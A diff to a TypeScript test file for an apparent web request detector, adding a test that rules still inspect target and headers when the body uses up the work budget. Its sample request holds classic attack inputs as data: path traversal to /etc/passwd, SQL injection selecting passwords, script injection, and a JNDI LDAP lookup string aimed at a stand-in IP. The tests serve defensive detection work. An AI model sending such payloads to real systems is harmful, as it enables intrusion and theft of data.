@@ -78,9 +78,48 @@ test('with less work fewer rules match, and none that does not match with more',
   }
 })
 
+/** Ordinary places, with what the rules find in them. */
+const ATTACKED = {
+  target:
+    "/a/../../etc/passwd?id=1'%20union%20select%20password%20from%20users--&q=%3Cscript%3Ealert(1)%3C/script%3E",
+  headers: {
+    'user-agent': '${jndi:ldap://192.0.2.1/a}',
+    referer: 'https://example.com/?q=<script>alert(1)</script>',
+  },
+}
+
+test.each(
+  HOSTILE_REQUESTS.filter(({ name }) => SPENT.has(name)).map((request) => [request.name, request] as const),
+)('%s as the body: target and headers are inspected all the same', (_, { headers, body }) => {
+  const inBody = /^http\.request\.body/
+  const foundIn = (request: ReturnType<typeof inspectSample>): ReadonlyMap<string, string> =>
+    new Map(
+      RULES.flatMap((rule) => {
+        const found = detector.detect(rule, request)
+        return found === null ? [] : [[rule.id, found.field]]
+      }),
+    )
+  const alone = foundIn(inspectSample({ method: 'POST', ...ATTACKED }))
+  expect(alone.size).toBeGreaterThan(20)
+  const inspected = inspectSample({
+    method: 'POST',
+    target: ATTACKED.target,
+    headers: { ...headers, ...ATTACKED.headers },
+    body,
+  })
+  expect(detector.isWhole(inspected)).toBe(false)
+  expect(detector.unitsOfAll(inspected)).toBeLessThanOrEqual(DEFAULT_WORK_UNITS + MAX_UNCHECKED)
+  const together = foundIn(inspected)
+  for (const [id, field] of alone) {
+    expect(inBody.test(field)).toBe(false)
+    expect(together.has(id), id).toBe(true)
+  }
+})
+
 test('any values stay within the limit of work', () => {
-  const units = 200_000
+  const units = 40_000
   const limited = createDetector(RULES, units)
+  const seen = new Set<boolean>()
   const fragment = fc.constantFrom(
     "'",
     '"',
@@ -112,10 +151,14 @@ test('any values stay within the limit of work', () => {
       })
       const spent = limited.unitsOfAll(inspected)
       expect(spent).toBeLessThanOrEqual(units + MAX_UNCHECKED)
-      expect(limited.isWhole(inspected)).toBe(spent <= units)
+      const isWhole = limited.isWhole(inspected)
+      if (isWhole) expect(spent).toBeLessThanOrEqual(units)
+      else expect(spent).toBeGreaterThan((units * 7) / 8)
+      seen.add(isWhole)
     }),
     { numRuns: 60 },
   )
+  expect(seen.size).toBe(2)
 })
 
 test('a request on which the work is spent is reported, and can be blocked', () => {
